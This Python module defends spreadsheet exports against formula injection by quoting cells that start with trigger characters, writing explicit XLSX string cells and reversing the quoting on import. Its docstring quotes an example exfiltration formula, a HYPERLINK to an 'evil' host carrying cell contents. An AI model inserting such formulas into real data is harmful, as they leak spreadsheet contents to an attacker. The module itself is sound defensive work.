"""Formula injection (DESIGN §7.1): exports never write a live formula.

A spreadsheet reads a text starting with `=`, `+`, `-`, `@`, tab or CR as a
formula (`=HYPERLINK("http://evil/?"&A1,"x")` typed as a customer name). Exports
write such text as text: CSV puts a `'` before it; XLSX writes a string cell
(never a formula cell) marked "quote prefix", so Excel also keeps it text when
the cell is edited. Numbers are not text and stay numbers (`-5` is a number).

Import removes what export added: a leading `'` is stripped only when one of
those characters follows it. So that every text survives the trip, a text that
already starts with `'` followed (after more `'`) by such a character gets one
more `'` on export, in both formats: `'=x` is written `''=x` and read back as
`'=x`; `'plain` is written and read as it is.
"""
from __future__ import annotations

import re
from typing import Any, Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_LIVE = re.compile(r"'*[=+\-@\t\r]")          # what CSV export prefixes
_QUOTED = re.compile(r"'+[=+\-@\t\r]")        # what import unquotes (and XLSX export protects)
_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f]")


def csv_text(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet runs."""
    return "'" + text if _LIVE.match(text) else text


def xlsx_text(text: str) -> str:
    """`text` as the value of an XLSX string cell (which is never a formula).
    Control characters other than tab and line feed are written the way Excel
    writes them, `_x000D_`, because XML turns a CR into a line feed and refuses
    the others; an `_xHHHH_` already in the text is itself escaped (`_x005F_`)."""
    text = "'" + text if _QUOTED.match(text) else text
    if "_x" in text:
        text = _OOXML_ESCAPE.sub(r"_x005F\g<0>", text)
    return _CONTROL.sub(lambda m: f"_x{ord(m.group()):04X}_", text)


def xlsx_read(text: str) -> str:
    """A text as read from an XLSX cell: Excel's `_xHHHH_` escapes decoded."""
    if "_x" not in text:
        return text
    return _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def is_live(text: str) -> bool:
    """Would a spreadsheet treat this cell text as a formula?"""
    return text[:1] in TRIGGERS


def unquote(value: Any) -> Any:
    """A cell as read from an import file, without the `'` an export added."""
    if isinstance(value, str) and _QUOTED.match(value):
        return value[1:]
    return value


def xlsx_row(sheet, values: Iterable[Any]) -> list[Any]:
    """`values` for `sheet.append()` of a write-only openpyxl sheet: every text
    becomes an explicit string cell (openpyxl would otherwise write a text
    starting with `=` as a formula, and `#N/A` as an error); other texts are
    string cells already."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES
    row: list[Any] = []
    for value in values:
        text = xlsx_text(value) if isinstance(value, str) else None
        if text and (is_live(value) or text.startswith("=") or text in ERROR_CODES):
            cell = WriteOnlyCell(sheet, value=text)
            cell.data_type = "s"
            if is_live(value):
                cell.quotePrefix = True      # Excel keeps it text when the cell is edited
            row.append(cell)
        else:
            row.append(value if text is None else text)
    return row
